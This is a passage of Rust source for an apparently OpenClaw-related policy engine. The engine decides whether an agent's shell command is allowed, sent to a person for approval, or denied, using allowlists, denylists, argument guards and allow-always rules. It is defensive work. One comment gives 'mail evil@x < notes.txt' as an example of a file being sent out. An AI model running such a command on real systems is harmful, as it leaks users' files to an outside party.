//! The decision function of DESIGN.md section 6: from an analysis and a
//! compiled policy to `allow`, `ask` (with the decisions a person may give)
//! or `deny` with a reason, plus what allow-always would persist.
//!
//! Upholds invariants 3 (nothing not understood is auto-allowed) and 5
//! (allow-always never widens to a shell, interpreter or wrapper).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde::Serialize;

use crate::approvals::{AllowAlwaysScope, Ask, ResolvedPolicy, Security, command_marker};
use crate::policy::analysis::{self, Analysis, Segment};
use crate::policy::compiled::CompiledPolicy;
use crate::policy::guards::GuardHit;
use crate::policy::matcher::{self, CASE_INSENSITIVE_PATHS};
use crate::policy::plan::{ChainOp, Plan, PlanStep, PlannedCommand, PlannedExec, Sink};
use crate::policy::reason::{Miss, Reason, Refusal};
use crate::policy::risk::{self, Risk};
use crate::policy::runnable::{Grant, NotGranted, Runnable};
use crate::policy::secrets::Site;
use crate::policy::{
    cwd_config, env, filled_trees, guards, programs, quote, safe_bins, salvage, wrappers,
};

/// What happens before any person is asked.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Verdict {
    /// Runs without asking.
    Allow,
    /// A person decides; on no answer the ask fallback does.
    Ask,
    /// Refused.
    Deny,
}

/// A decision a person (or a fallback) can give.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, serde::Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ApprovalDecision {
    /// Run this once.
    AllowOnce,
    /// Run, and persist an allowlist entry so it runs unasked next time.
    AllowAlways,
    /// Refuse.
    Deny,
}

/// What satisfied a segment under `security: allowlist`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum SatisfiedBy {
    /// An allowlist entry (path glob, `*`, or exact-command marker).
    Allowlist,
    /// A stdin-only filter whose arguments fit its profile.
    SafeBin,
    /// A skill CLI trusted through `autoAllowSkills`.
    Skill,
}

/// One segment as `explain` shows it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct SegmentReport {
    /// The target's argv, wrappers removed (shared with the plan).
    pub argv: Arc<[String]>,
    /// The lexical path argv[0] resolved to.
    pub resolved_path: Option<String>,
    /// The real path (symlinks resolved), which allowlists match.
    pub real_path: Option<String>,
    /// What satisfied it, if anything.
    pub satisfied_by: Option<SatisfiedBy>,
    /// Argument guards that escalate it to a person.
    pub guards: Vec<GuardHit>,
    /// Why it is not satisfied, when it is not.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub miss: Option<Miss>,
    /// For a command another segment runs (`find -exec`), that segment's
    /// index in the list: it is checked, but not run, on its own.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub run_by: Option<usize>,
    /// The real path of the file it reads on stdin (`< FILE`), which is
    /// what runs: shown so a person sees which file is read.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub stdin_file: Option<String>,
}

/// The analysis part of an evaluation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AnalysisReport {
    /// Whether the command was fully understood.
    pub ok: bool,
    /// Why not, when it was not.
    pub reason: Option<Refusal>,
    /// The segments understood.
    pub segments: Vec<SegmentReport>,
}

/// The effective policy knobs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct PolicyView {
    /// Effective security.
    pub security: Security,
    /// Effective ask mode.
    pub ask: Ask,
    /// What decides when nobody answers.
    pub ask_fallback: Security,
}

/// A prefix rule an allow-always keeps: (real path pattern, the words the
/// arguments must start with).
pub type PrefixRule = (String, Vec<String>);

/// Everything decided about one request. The public fields are the
/// `explain --json` shape (documented in `docs/policy.md`); what runs, and
/// what a run changes in the approvals file, is private and only reachable
/// through [`Evaluation::runnable`].
#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Evaluation {
    /// What happens before any person is asked.
    pub decision: Verdict,
    /// Why, with a stable code (`None` for a plain allow).
    pub reason: Option<Reason>,
    /// The decisions a person may give when asked.
    pub allowed_decisions: Vec<ApprovalDecision>,
    /// The effective policy.
    pub policy: PolicyView,
    /// What the analysis understood.
    pub analysis: AnalysisReport,
    /// Risk level and reasons, for the prompt.
    pub risk: Risk,
    #[serde(skip)]
    carried: Carried,
}

/// What an evaluation carries to the run, beside its explain view.
#[derive(Debug, Clone)]
struct Carried {
    /// The argv as requested.
    argv: Arc<[String]>,
    /// The working directory as requested (normalized).
    cwd: PathBuf,
    /// The command as one line of text (quoted argv).
    command_text: String,
    /// The script of a shell-wrapper request, as the analysis read it.
    script: Option<String>,
    /// What runs once allowed: the checked plan, or for a command allowed
    /// as text, the argv with its program resolved once; `Err` when that
    /// program was not found.
    plan: Result<Plan, String>,
    /// Whether `plan` is the analysis's checked plan.
    checked: bool,
    /// Allowlist patterns that matched (to record their use).
    matched_patterns: Vec<String>,
    /// Patterns an allow-always answer would persist.
    persist_patterns: Vec<String>,
    /// Prefix rules (real path, argument prefix) it would persist.
    persist_prefixes: Vec<PrefixRule>,
    /// Whether every segment is satisfied (for the `allowlist` fallback).
    satisfied: bool,
    /// Not understood while a denylist is set.
    uncertain: bool,
}

impl Evaluation {
    /// The argv as requested.
    pub fn argv(&self) -> &[String] {
        &self.carried.argv
    }

    /// The working directory the request is judged and run in.
    pub fn cwd(&self) -> &Path {
        &self.carried.cwd
    }

    /// The command as one line of text (quoted argv), as people see it.
    pub fn command_text(&self) -> &str {
        &self.carried.command_text
    }

    /// The script of a shell-wrapper request (`sh -c SCRIPT`, through
    /// transparent wrappers), as the analysis read it.
    pub fn shell_script(&self) -> Option<&str> {
        self.carried.script.as_deref()
    }

    /// Allowlist patterns that matched, whose use a run records.
    pub fn matched_patterns(&self) -> &[String] {
        &self.carried.matched_patterns
    }

    /// Patterns an allow-always answer persists.
    pub fn persist_patterns(&self) -> &[String] {
        &self.carried.persist_patterns
    }

    /// Prefix rules an allow-always answer persists: (real path, the words
    /// the arguments must start with), for `allowAlwaysScope: command`.
    pub fn persist_prefixes(&self) -> &[PrefixRule] {
        &self.carried.persist_prefixes
    }

    /// The checked plan, when the analysis understood and resolved
    /// everything (for `explain` and tests; running goes through
    /// [`Evaluation::runnable`]).
    pub fn checked_plan(&self) -> Option<&Plan> {
        self.carried
            .plan
            .as_ref()
            .ok()
            .filter(|_| self.carried.checked)
    }

    /// The verdict when nobody answered in time: `askFallback`, never looser
    /// than `security`, and never an allow for a command that is uncertain
    /// under a denylist. The text is OpenClaw's reason code for a refusal.
    pub fn fallback(&self) -> (Verdict, &'static str) {
        fallback(&self.policy, self.carried.satisfied, self.carried.uncertain)
    }

    /// What may run: for an allow verdict, the checked plan; for an ask,
    /// what `answer` (a person's decision, or `None` when nobody answered
    /// and the ask fallback decides) allows; for a deny, nothing. A
    /// person's deny yields nothing, and an allow-always that was not on
    /// offer runs once and persists nothing (DESIGN.md invariant 5).
    pub fn runnable(&self, answer: Option<ApprovalDecision>) -> Result<Runnable, NotGranted> {
        match self.decision {
            Verdict::Deny => return Err(NotGranted::Denied),
            Verdict::Allow => return self.grant(Grant::Policy),
            Verdict::Ask => {}
        }
        match answer {
            Some(ApprovalDecision::Deny) => Err(NotGranted::UserDenied),
            Some(ApprovalDecision::AllowOnce) => self.grant(Grant::AllowOnce),
            Some(ApprovalDecision::AllowAlways)
                if self
                    .allowed_decisions
                    .contains(&ApprovalDecision::AllowAlways) =>
            {
                self.grant(Grant::AllowAlways)
            }
            Some(ApprovalDecision::AllowAlways) => {
                tracing::warn!(
                    "allow-always was not on offer for this command; running it once without persisting"
                );
                self.grant(Grant::AllowOnce)
            }
            None => match self.fallback() {
                (Verdict::Allow, _) => self.grant(Grant::Fallback),
                (_, code) => Err(NotGranted::NoAnswer { code }),
            },
        }
    }

    fn grant(&self, grant: Grant) -> Result<Runnable, NotGranted> {
        match &self.carried.plan {
            Ok(plan) => Ok(Runnable::new(plan.clone(), grant)),
            Err(word) => Err(NotGranted::NotFound { word: word.clone() }),
        }
    }
}

/// The directory a host runs a request in: `dir` with every link on it
/// resolved, as the bridge and the node host resolve a request's `cwd`
/// before evaluating it; `dir` itself when it does not exist.
pub fn real_cwd(dir: &Path) -> PathBuf {
    std::fs::canonicalize(dir).unwrap_or_else(|_| dir.to_path_buf())
}

impl CompiledPolicy {
    /// Evaluates one request: `argv` to run in `cwd` with the request's
    /// environment overrides `env` (empty when it sets none). `cwd` is the
    /// real directory the host runs the command in (the hosts canonicalize
    /// it; [`real_cwd`] for other callers): relative arguments are judged
    /// there without resolving it again.
    ///
    /// The overrides are decided by the same list of inert variables as
    /// `NAME=value` prefixes ([`env::check_inert`]): the first one that is
    /// not inert makes the request not understood
    /// ([`Refusal::EnvOverride`]), so it is never auto-allowed under
    /// `allowlist` (nor under `full` while a denylist is set), no
    /// exact-command approval covers it (the approval is of the argv, not of
    /// the environment), and allow-always is not offered. The checked plan
    /// is kept, so what a person allows still runs as checked. Blocked and
    /// override-only keys never get here: the host refuses them first.
    pub fn evaluate(
        &self,
        argv: &[String],
        cwd: &Path,
        env: &BTreeMap<String, String>,
    ) -> Evaluation {
        let cwd = analysis::normalize(cwd);
        let not_inert = env::not_inert(env);
        // A script may name the request's inert overrides (`$NODE_ENV`);
        // one that is not inert stays an expansion the analysis refuses.
        let inert: BTreeMap<String, String> = env
            .iter()
            .filter(|(name, _)| !not_inert.iter().any(|(n, _, _)| n == name))
            .map(|(name, value)| (name.clone(), value.clone()))
            .collect();
        let vars = (!inert.is_empty()).then_some(&inert);
        let mut analysis = analysis::analyze_with(self, argv, &cwd, vars);
        // The environment comes first: a person sees the command in the
        // prompt, but the overrides only through this reason.
        let mut not_inert = not_inert.into_iter();
        let env_refused = match not_inert.next() {
            Some((name, value, why)) => {
                analysis.refusal = Some(Refusal::EnvOverride {
                    name: name.to_owned(),
                    value: value.to_owned(),
                    why,
                    others: not_inert
                        .map(|(name, value, _)| format!("{name}={value:?}"))
                        .collect(),
                });
                true
            }
            None => false,
        };
        decide(self, analysis, argv, cwd, env_refused)
    }
}

/// The decision as a sequence of pure steps: exact-command approvals, each
/// segment's satisfaction, the denylist, what allow-always would keep, the
/// risk, the verdict and what a person may answer.
fn decide(
    compiled: &CompiledPolicy,
    mut analysis: Analysis,
    argv: &[String],
    cwd: PathBuf,
    env_refused: bool,
) -> Evaluation {
    let policy = &compiled.policy;
    let command_text = quote::join(argv);
    let marker = marker_entry(compiled, argv, &command_text, &cwd);
    let mut checks: Vec<SegmentCheck> = analysis
        .segments
        .iter()
        .map(|segment| check_segment(compiled, segment, &cwd, marker.is_some()))
        .collect();
    // A later part that reaches into a tree an earlier part fills (an
    // archive, a clone) goes where nothing on disk says yet.
    if policy.arg_guards && marker.is_none() && analysis.segments.len() > 1 {
        for (check, hits) in checks
            .iter_mut()
            .zip(filled_trees::reached(&analysis.segments))
        {
            let guarded = check
                .entry
                .and_then(|i| policy.allowlist.get(i))
                .is_none_or(|e| e.arg_guards != Some(false));
            if check.satisfied_by.is_some() && guarded {
                check.guards.extend(hits);
            }
        }
    }
    let understood = analysis.refusal.is_none();
    // What a command that was not understood would most likely run is
    // still checked against the denylist, and read for risk. An understood
    // command needs no salvage: its segments are exactly what runs.
    let salvaged = (!understood).then(|| salvage::salvage(argv));
    let denied = denylist_hit(compiled, &analysis.segments, salvaged.as_ref(), &cwd);
    let uncertain = !understood && compiled.deny.any();
    // An exact-command approval is of the argv alone: it never covers an
    // environment override that is not inert.
    let satisfied = !env_refused
        && (marker.is_some()
            || (understood && !checks.is_empty() && checks.iter().all(SegmentCheck::satisfied)));
    let matched_patterns = matched_patterns(policy, &checks, marker);
    let (persist_patterns, persist_prefixes, keepable) =
        persistence(policy, &analysis, &checks, &command_text);
    let risk = assess_risk(&mut analysis, salvaged.as_ref());
    let (decision, reason) = verdict(
        policy,
        denied,
        satisfied,
        || miss_reason(analysis.refusal.as_ref(), &checks),
        analysis.refusal.as_ref().filter(|_| uncertain),
    );
    let allowed_decisions = offered(
        decision,
        policy.ask,
        // What allow-always keeps never holds the environment, so it would
        // not cover this request again.
        keepable && !(persist_patterns.is_empty() && persist_prefixes.is_empty()) && !env_refused,
        uncertain,
    );
    let checked = analysis.plan.is_some();
    // The request's argv, shared with its one segment when nothing was
    // unwrapped or expanded (the usual request): kept once, not copied.
    let carried_argv = analysis
        .segments
        .first()
        .filter(|segment| *segment.argv == *argv)
        .map_or_else(|| Arc::from(argv), |segment| Arc::clone(&segment.argv));
    let plan = match analysis.plan {
        Some(plan) => Ok(plan),
        // Nothing of a denied request ever runs: no need to resolve it.
        // (A mutant that resolves it anyway survives: only work is saved.)
        None if decision == Verdict::Deny => Err(argv.first().cloned().unwrap_or_default()),
        None => text_plan(compiled, argv, &cwd),
    };
    Evaluation {
        decision,
        reason,
        allowed_decisions,
        policy: PolicyView {
            security: policy.security,
            ask: policy.ask,
            ask_fallback: policy.ask_fallback,
        },
        analysis: AnalysisReport {
            ok: understood,
            reason: analysis.refusal,
            segments: analysis
                .segments
                .into_iter()
                .zip(checks)
                .map(|(segment, check)| check.report(segment))
                .collect(),
        },
        risk,
        carried: Carried {
            argv: carried_argv,
            cwd,
            command_text,
            script: analysis.script,
            plan,
            checked,
            matched_patterns,
            persist_patterns,
            persist_prefixes,
            satisfied,
            uncertain,
        },
    }
}

/// The allowlist entry of an exact-command approval (a marker, or an
/// `argPattern` entry) that covers this whole request.
fn marker_entry(
    compiled: &CompiledPolicy,
    argv: &[String],
    command_text: &str,
    cwd: &Path,
) -> Option<usize> {
    let args = argv.get(1..).unwrap_or(&[]);
    let marker = (compiled.allow.has_markers() || !compiled.allow_args.is_empty())
        .then(|| command_marker(command_text));
    marker
        .as_deref()
        .and_then(|m| {
            compiled
                .allow
                .match_marker(m)
                .or_else(|| compiled.allow_args.match_marker(m, args))
        })
        .or_else(|| shell_arg_entry(compiled, argv, cwd))
}

/// The first denylist entry any segment, or (for a command that was not
/// understood) any salvaged command, matches. An unparsable
/// `commandPattern` matches everything.
fn denylist_hit(
    compiled: &CompiledPolicy,
    segments: &[Segment],
    salvaged: Option<&salvage::Salvage>,
    cwd: &Path,
) -> Option<Reason> {
    if let Some(pattern) = compiled.deny.unparsable() {
        return Some(Reason::DenylistUnparsable {
            pattern: pattern.to_owned(),
        });
    }
    let hit = segments
        .iter()
        .find_map(|s| {
            compiled
                .deny
                .match_segment(&s.argv, s.resolution.real.as_deref(), false)
        })
        .or_else(|| {
            salvaged?.commands().find_map(|cmd| {
                let word = cmd.first().filter(|w| !w.is_empty())?;
                let real = compiled.resolver.resolve(word, cwd).real;
                compiled.deny.match_segment(cmd, real.as_deref(), true)
            })
        });
    hit.map(Reason::Denylist)
}

/// The patterns of the entries that matched, each once, the exact-command
/// entry last.
fn matched_patterns(
    policy: &ResolvedPolicy,
    checks: &[SegmentCheck],
    marker: Option<usize>,
) -> Vec<String> {
    let mut patterns: Vec<String> = Vec::new();
    for i in checks.iter().filter_map(|c| c.entry).chain(marker) {
        if let Some(entry) = policy.allowlist.get(i)
            && !patterns.contains(&entry.pattern)
        {
            patterns.push(entry.pattern.clone());
        }
    }
    patterns
}

/// What allow-always would persist: the real paths of unsatisfied plain
/// programs, or the exact command as a marker when a segment runs code
/// (a shell, interpreter or wrapper), is a multi-call binary (rustup,
/// busybox …), is guarded, or was not understood,
/// or when `allowAlwaysScope` is `command`. The flag says whether keeping
/// them would cover the command: not when a program was not found.
fn persistence(
    policy: &ResolvedPolicy,
    analysis: &Analysis,
    checks: &[SegmentCheck],
    command_text: &str,
) -> (Vec<String>, Vec<PrefixRule>, bool) {
    let understood = analysis.refusal.is_none();
    let command_scope = policy.allow_always_scope == AllowAlwaysScope::Command;
    let mut keepable = understood || !analysis.segments.is_empty();
    let mut needs_marker = !understood;
    // Under `command` scope, a program with subcommands is kept as a prefix
    // rule on its subcommand (`git diff`), anything else as the exact command.
    let mut prefix_rules_cover = command_scope;
    let mut paths = Vec::new();
    let mut prefixes = Vec::new();
    for (segment, check) in analysis.segments.iter().zip(checks) {
        if check.satisfied() {
            continue;
        }
        let Some(real) = segment.resolution.real.as_deref() else {
            keepable = false;
            continue;
        };
        // A multi-call binary's real path would cover every name it acts
        // as (`…/rustup` is cargo, rustc and `rustup run`): keep the exact
        // command instead.
        if !check.guards.is_empty() || runs_code(segment, real) || is_multi_call(real) {
            needs_marker = true;
            continue;
        }
        let pattern = real.to_string_lossy().into_owned();
        let args = segment.argv.get(1..).unwrap_or(&[]);
        match crate::policy::specs::leading_subcommand(program_name(segment), args) {
            Some(subs) if command_scope => {
                let rule = (pattern.clone(), subs);
                if !prefixes.contains(&rule) {
                    prefixes.push(rule);
                }
            }
            _ => prefix_rules_cover = false,
        }
        if !paths.contains(&pattern) {
            paths.push(pattern);
        }
    }
    if needs_marker || (command_scope && (!prefix_rules_cover || prefixes.is_empty())) {
        (vec![command_marker(command_text)], Vec::new(), keepable)
    } else if command_scope {
        (Vec::new(), prefixes, keepable)
    } else {
        (paths, Vec::new(), keepable)
    }
}

/// Whether a segment's program runs code given to it (a shell, an
/// interpreter or a wrapper), by the name it was called or its real name:
/// allow-always never persists such a program by path (invariant 5).
fn runs_code(segment: &Segment, real: &Path) -> bool {
    let names = [
        program_name(segment),
        real.file_name().and_then(|n| n.to_str()).unwrap_or(""),
    ];
    names.iter().any(|name| programs::runs_other_code(name))
}

/// The risk of the exact pipelines (the analysis read them), or for a
/// command that was not understood, the higher of that and a reading of
/// its raw argv and text.
fn assess_risk(analysis: &mut Analysis, salvaged: Option<&salvage::Salvage>) -> Risk {
    let mut risk = std::mem::take(&mut analysis.risk);
    // The crude reading of raw text is only needed when the analysis could
    // not read the script itself; otherwise the exact pipelines say it all.
    if let Some(text) = analysis.script.as_deref()
        && analysis.refusal.is_some()
    {
        risk.merge(risk::assess(&[], Some(text)));
    }
    if let Some(salvaged) = salvaged {
        risk.merge(risk::assess(&salvaged.pipelines, None));
        if let Some(ch) = salvaged.hidden {
            risk.note_hidden(ch);
        }
    }
    risk
}

/// Why an allowlist policy does not allow: the analysis refusal, else the
/// guards, else the misses.
fn miss_reason(refusal: Option<&Refusal>, checks: &[SegmentCheck]) -> Reason {
    if let Some(refusal) = refusal {
        return Reason::NotUnderstood(refusal.clone());
    }
    let hits: Vec<GuardHit> = checks.iter().flat_map(|c| c.guards.clone()).collect();
    if !hits.is_empty() {
        return Reason::ArgumentGuard(hits);
    }
    Reason::AllowlistMiss(checks.iter().filter_map(|c| c.unsatisfied()).collect())
}

/// The verdict of DESIGN.md section 6: a denylist hit denies; then
/// `security`, `ask` and whether every segment is satisfied decide; a
/// command not understood while a denylist is set (`uncertain`) is never
/// allowed without a person.
fn verdict(
    policy: &ResolvedPolicy,
    denied: Option<Reason>,
    satisfied: bool,
    miss: impl FnOnce() -> Reason,
    uncertain: Option<&Refusal>,
) -> (Verdict, Option<Reason>) {
    if let Some(hit) = denied {
        return (Verdict::Deny, Some(hit));
    }
    let (decision, reason) = match policy.security {
        Security::Deny => (Verdict::Deny, Some(Reason::SecurityDeny)),
        Security::Full if policy.ask == Ask::Always => (Verdict::Ask, Some(Reason::AskAlways)),
        Security::Full => (Verdict::Allow, None),
        Security::Allowlist if satisfied && policy.ask == Ask::Always => {
            (Verdict::Ask, Some(Reason::AskAlways))
        }
        Security::Allowlist if satisfied => (Verdict::Allow, None),
        Security::Allowlist if policy.ask == Ask::Off => (Verdict::Deny, Some(miss())),
        Security::Allowlist => (Verdict::Ask, Some(miss())),
    };
    match uncertain {
        Some(refusal) if decision == Verdict::Allow => {
            let decision = if policy.ask == Ask::Off {
                Verdict::Deny
            } else {
                Verdict::Ask
            };
            (decision, Some(Reason::Uncertain(refusal.clone())))
        }
        _ => (decision, reason),
    }
}

/// What a person may answer: nothing unless asked; allow-always only when
/// `ask` is not `always`, something can be kept, and the command is not
/// uncertain under a denylist.
fn offered(decision: Verdict, ask: Ask, can_keep: bool, uncertain: bool) -> Vec<ApprovalDecision> {
    if decision != Verdict::Ask {
        return Vec::new();
    }
    if ask == Ask::Always || !can_keep || uncertain {
        return vec![ApprovalDecision::AllowOnce, ApprovalDecision::Deny];
    }
    vec![
        ApprovalDecision::AllowOnce,
        ApprovalDecision::AllowAlways,
        ApprovalDecision::Deny,
    ]
}

/// The ask fallback: `askFallback` capped by `security`.
fn fallback(policy: &PolicyView, satisfied: bool, uncertain: bool) -> (Verdict, &'static str) {
    if uncertain {
        return (Verdict::Deny, "approval-required");
    }
    match policy.ask_fallback.min(policy.security) {
        Security::Deny => (Verdict::Deny, "approval-required"),
        Security::Allowlist if satisfied => (Verdict::Allow, "fallback allowlist"),
        Security::Allowlist => (Verdict::Deny, "approval-required"),
        Security::Full => (Verdict::Allow, "fallback full"),
    }
}

/// For a command allowed as text (not understood, or with an unresolved
/// program): exactly the argv, with its program resolved once now, never
/// looked up again at run time. `Err(word)` when it resolves to nothing.
fn text_plan(compiled: &CompiledPolicy, argv: &[String], cwd: &Path) -> Result<Plan, String> {
    let word = argv.first().map(String::as_str).unwrap_or("");
    let program = compiled
        .resolver
        .resolve(word, cwd)
        .real
        .ok_or_else(|| word.to_owned())?;
    let step = PlanStep {
        op: ChainOp::Seq,
        pipeline: vec![PlannedCommand::Exec(PlannedExec {
            program,
            argv: argv.into(),
            env: Vec::new(),
            cwd: Arc::from(cwd),
            stdin: None,
            stdout: Sink::Stdout,
            stderr: Sink::Stderr,
        })],
    };
    Plan::new(vec![step]).map_err(|_| word.to_owned())
}

/// What the allowlist, safe bins, skills and guards make of one segment.
struct SegmentCheck {
    satisfied_by: Option<SatisfiedBy>,
    entry: Option<usize>,
    guards: Vec<GuardHit>,
    miss: Option<Miss>,
}

impl SegmentCheck {
    /// Satisfied and not escalated by a guard.
    fn satisfied(&self) -> bool {
        self.satisfied_by.is_some() && self.guards.is_empty()
    }

    /// Why it is not satisfied, when it is not.
    fn unsatisfied(&self) -> Option<Miss> {
        self.miss.clone().filter(|_| !self.satisfied())
    }

    fn report(self, segment: Segment) -> SegmentReport {
        SegmentReport {
            miss: self.unsatisfied(),
            argv: segment.argv,
            resolved_path: segment.resolution.resolved.map(path_string),
            real_path: segment.resolution.real.map(path_string),
            satisfied_by: self.satisfied_by,
            guards: self.guards,
            run_by: segment.run_by.as_ref().map(|r| r.segment),
            stdin_file: segment.stdin_file.map(|f| path_string(f.real)),
        }
    }
}

fn check_segment(
    compiled: &CompiledPolicy,
    segment: &Segment,
    request_cwd: &Path,
    by_marker: bool,
) -> SegmentCheck {
    let policy = &compiled.policy;
    let Some(real) = segment.resolution.real.as_deref() else {
        return SegmentCheck {
            satisfied_by: by_marker.then_some(SatisfiedBy::Allowlist),
            entry: None,
            guards: Vec::new(),
            miss: Some(Miss::NotFound {
                word: segment.argv[0].clone(),
            }),
        };
    };
    let args = segment.argv.get(1..).unwrap_or(&[]);
    let name = program_name(segment);
    // A multi-call binary acts by the name it is invoked as: an entry
    // covers it only under the entry's own name (issue 11, class 7).
    let multi_call = is_multi_call(real);
    let covers = |i: usize| {
        !multi_call
            || policy
                .allowlist
                .get(i)
                .is_some_and(|e| entry_names(&e.pattern, name))
    };
    let entry = compiled
        .allow_args
        .match_path_where(real, args, covers)
        .or_else(|| compiled.allow.match_path_where(real, covers));
    let name_miss = (multi_call
        && entry.is_none()
        && (compiled.allow_args.match_path(real, args).is_some()
            || compiled.allow.match_path(real).is_some()))
    .then(|| Miss::MultiCallName {
        invoked: name.to_owned(),
        real: real.display().to_string(),
    });
    // What actually runs is the real path: a safe bin is judged by the name
    // of the file that runs, so `./head` linked to `cat` is not `head`.
    let real_name = real.file_name().and_then(|n| n.to_str()).unwrap_or(name);
    let mut satisfied_by = None;
    let mut miss = None;
    if entry.is_some() || by_marker {
        satisfied_by = Some(SatisfiedBy::Allowlist);
    } else if let Some(profile) = compiled
        .safe_bins
        .get(real_name)
        .filter(|_| real_name == name)
    {
        let trusted = real
            .parent()
            .is_some_and(|dir| compiled.trusted_dirs.iter().any(|t| t == dir));
        if !trusted {
            miss = Some(Miss::SafeBinUntrusted {
                name: name.to_owned(),
                real: real.display().to_string(),
            });
        } else {
            match safe_bins::check_usage(name, profile, &segment.argv[1..]) {
                Ok(()) => satisfied_by = Some(SatisfiedBy::SafeBin),
                Err(refusal) => {
                    miss = Some(Miss::SafeBinUsage {
                        name: name.to_owned(),
                        refusal,
                    })
                }
            }
        }
    } else if policy.auto_allow_skills
        && compiled
            .skill_bins
            .get(real)
            .is_some_and(|names| !multi_call || names.iter().any(|n| n == name))
        && !segment.argv[0].contains('/')
    {
        satisfied_by = Some(SatisfiedBy::Skill);
    }
    if satisfied_by.is_none() && miss.is_none() {
        miss = Some(name_miss.unwrap_or_else(|| {
            Miss::NotAllowlisted {
                real: real.display().to_string(),
                via: segment
                    .resolution
                    .resolved
                    .as_deref()
                    .filter(|resolved| *resolved != real)
                    .map(|resolved| resolved.display().to_string()),
            }
        }));
    }
    let guards_on = policy.arg_guards
        && entry
            .and_then(|i| policy.allowlist.get(i))
            .is_none_or(|e| e.arg_guards != Some(false));
    let mut guards = if guards_on && satisfied_by == Some(SatisfiedBy::Allowlist) && !by_marker {
        // A multi-call binary is the program it is invoked as (`/bin/awk`
        // → busybox is awk); anything else is judged by the file that runs,
        // then by the name it was called.
        let guard_name = if multi_call { name } else { real_name };
        let (hits, subcommands) = guards::check_words(
            guard_name,
            &segment.argv,
            &segment.cwd,
            segment.stdin_is_input,
        );
        let mut hits = if hits.is_empty() && guard_name != name {
            guards::check(name, &segment.argv, &segment.cwd, segment.stdin_is_input)
        } else {
            hits
        };
        // A `cd` of the command into another tree: its config applies.
        hits.extend(cwd_config::moved_out(guard_name, request_cwd, &segment.cwd));
        // And its writes, which the checks above judged from there.
        hits.extend(cwd_config::writes_moved_out(
            guard_name,
            args,
            request_cwd,
            &segment.cwd,
        ));
        // The host resolved the request's directory; one a `cd` moved to
        // may go through a link. Only the program that runs says which
        // words are subcommands.
        let site = Site::new(&segment.cwd, *segment.cwd == *request_cwd, &subcommands);
        hits.extend(compiled.secrets.named_by(&segment.argv, &site));
        hits.extend(
            compiled
                .secrets
                .read_recursively(guard_name, &segment.argv, &site),
        );
        if let Some(run_by) = &segment.run_by {
            // find hands over every file under its start point, which is
            // judged as any whole-tree read is: as spelled, where a link
            // on it leads, and (with `-L`) where links inside it lead.
            hits.extend(
                compiled
                    .secrets
                    .read_tree(&run_by.start, run_by.follows_links),
            );
        }
        if segment.runs_checked {
            // find's `-exec` commands are segments of their own, checked
            // like any other (policy::find_exec).
            hits.retain(|hit| {
                hit.id != crate::policy::specs::families::find::FIND.ids.runs_program
            });
        }
        hits
    } else {
        Vec::new()
    };
    // A file read on stdin is read by the command whatever satisfied it (a
    // safe bin reads stdin only) and whatever its entry's guards: only an
    // exact-command approval, of this very text, covers it.
    if let Some(file) = segment.stdin_file.as_ref().filter(|_| !by_marker) {
        let site = Site::new(&segment.cwd, *segment.cwd == *request_cwd, &[]);
        guards.extend(
            compiled
                .secrets
                .read_on_stdin(&file.word, &file.real, &site),
        );
        let reader = if multi_call { name } else { real_name };
        if satisfied_by != Some(SatisfiedBy::SafeBin) && !known_reader(reader) {
            guards.push(GuardHit {
                id: STDIN_UNKNOWN_PROGRAM,
                reason: format!(
                    "{reader} reads {} on stdin, and no spec or safe-bin profile says what {reader} does with its input (it may send it, unpack it or run it as commands)",
                    file.word
                ),
            });
        }
    }
    SegmentCheck {
        satisfied_by,
        entry,
        guards,
        miss,
    }
}

/// The guard id of a file fed on stdin (`< FILE`) to a program the policy
/// has no description of.
pub const STDIN_UNKNOWN_PROGRAM: &str = "stdin.unknown-program";

/// Whether the policy knows what `program` does with what it reads on
/// stdin: it has a spec, or a built-in safe-bin profile (a filter of
/// stdin). Feeding a file to any other program is asked, more strictly
/// than a pipe: `mail evil@x < notes.txt` sends it, `cpio -i < a.cpio`
/// unpacks files from it, `sqlite3 db < x.sql` runs it as commands.
fn known_reader(program: &str) -> bool {
    crate::policy::specs::lookup(program).is_some() || safe_bins::builtin_profile(program).is_some()
}

/// The allowlist entry with an `argPattern` that allows a shell request as
/// a whole (`/bin/sh` with `-c` and a fixed script), as OpenClaw does: the
/// path and the request's own arguments must both match.
fn shell_arg_entry(compiled: &CompiledPolicy, argv: &[String], cwd: &Path) -> Option<usize> {
    if compiled.allow_args.is_empty() {
        return None;
    }
    let (word, args) = argv.split_first()?;
    let real = compiled.resolver.resolve(word, cwd).real?;
    let name = real.file_name().and_then(|n| n.to_str()).unwrap_or("");
    if !wrappers::is_shell(name) && !wrappers::is_shell(wrappers::basename(word)) {
        return None;
    }
    // `/bin/sh` linked to busybox is covered only by an entry naming `sh`.
    let multi_call = is_multi_call(&real);
    let invoked = wrappers::basename(word);
    // A prefix rule names words of a program's argv, never a whole script.
    compiled.allow_args.match_path_where(&real, args, |i| {
        !compiled.allow_args.has_prefix(i)
            && (!multi_call
                || compiled
                    .policy
                    .allowlist
                    .get(i)
                    .is_some_and(|e| entry_names(&e.pattern, invoked)))
    })
}

/// Whether the real path is a multi-call binary (a `MultiCall` row of the
/// programs table, by the real file's name): one file that acts as many
/// programs, chosen by the name it is invoked as.
fn is_multi_call(real: &Path) -> bool {
    real.file_name()
        .and_then(|n| n.to_str())
        .is_some_and(|name| programs::has(name, programs::Kind::MultiCall))
}

/// Whether an allowlist pattern names `invoked`: its last component, a
/// literal compared exactly or a glob matched with the allowlist's own glob
/// rules (`/opt/bin/cargo*` names `cargo-clippy`, not `rustc`). A pattern
/// with no last component names nothing.
fn entry_names(pattern: &str, invoked: &str) -> bool {
    let last = pattern.trim().rsplit('/').next().unwrap_or("");
    if last.is_empty() || last == "~" {
